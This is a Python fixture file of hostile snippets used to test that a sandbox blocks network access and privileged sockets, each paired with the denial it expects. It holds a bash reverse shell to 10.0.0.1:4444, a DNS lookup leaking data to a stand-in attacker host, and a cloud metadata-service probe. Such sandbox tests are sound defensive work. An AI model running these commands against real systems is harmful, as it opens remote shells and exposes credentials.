# ruff: noqa: E501 - programs keep their lines
"""Programs that would speak to the world, to this machine, or to what replaces a name service."""

from __future__ import annotations

from .model import hostile

SNIPPETS = [
    hostile(
        "a connection by address",
        "import socket; socket.create_connection(('8.8.8.8', 53), 1); print('BREACH')",
        ("network", "8.8.8.8:53"),
        "permission_denied",
    ),
    hostile(
        "a connection by name",
        "import urllib.request as u; u.urlopen('http://example.com/', timeout=1); print('BREACH')",
        ("network", "example.com"),
        "permission_denied",
    ),
    hostile(
        "a connection over IPv6",
        """
        import socket
        s = socket.socket(socket.AF_INET6); s.connect(("2001:4860:4860::8888", 443)); print("BREACH")
        """,
        ("network", "[2001:4860:4860::8888]:443"),
        "permission_denied",
    ),
    hostile(
        "the metadata service",
        "import urllib.request as u; u.urlopen('http://169.254.169.254/latest', timeout=1); print('BREACH')",
        ("network", "169.254.169.254:80"),
        "permission_denied",
    ),
    hostile(
        "a datagram",
        """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.2.3.4", 99)); print("BREACH")
        """,
        ("network", "1.2.3.4:99"),
        "permission_denied",
    ),
    hostile(
        "a datagram by sendmsg",
        """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, ("1.2.3.4", 98)); print("BREACH")
        """,
        ("network", "1.2.3.4:98"),
        "permission_denied",
    ),
    hostile(
        "a name leaked through DNS",
        "import socket; socket.gethostbyname('secret.attacker.example'); print('BREACH')",
        ("network", "secret.attacker.example"),
        "permission_denied",
    ),
    hostile(
        "the host's loopback",
        "import socket; socket.create_connection(('127.0.0.1', {port}), 1); print('BREACH')",
        classes="exception",
    ),
    hostile(
        "the host's abstract socket",
        r"""
        import socket
        s = socket.socket(socket.AF_UNIX); s.connect("\0{abstract}"); print("BREACH")
        """,
        ("network", "unix:@{abstract}"),
        classes="permission_denied",
    ),
    hostile(
        "a reverse shell in bash",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; exit 1",
        ("network", "10.0.0.1:4444"),
        "permission_denied",
        "bash",
    ),
    hostile(
        "a raw socket",
        "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print('BREACH')",
        ("privilege", "SOCK_RAW"),
        "unsafe_operation",
    ),
    *(
        hostile(
            f"a socket of family {name}",
            f"import socket; socket.socket({family}, socket.{kind}); print('BREACH')",
            ("privilege", name),
            "unsafe_operation",
        )
        for name, family, kind in (
            ("AF_PACKET", 17, "SOCK_RAW"),
            ("AF_VSOCK", 40, "SOCK_STREAM"),
            ("AF_ALG", 38, "SOCK_SEQPACKET"),
            ("AF_CAN", 29, "SOCK_RAW"),
            ("AF_BLUETOOTH", 31, "SOCK_RAW"),
            ("AF_XDP", 44, "SOCK_RAW"),
            ("AF_TIPC", 30, "SOCK_STREAM"),
        )
    ),
    hostile(
        "a netlink socket",
        "import socket; socket.socket(16, socket.SOCK_RAW, 0); print('BREACH')",
        classes="exception",
    ),
]
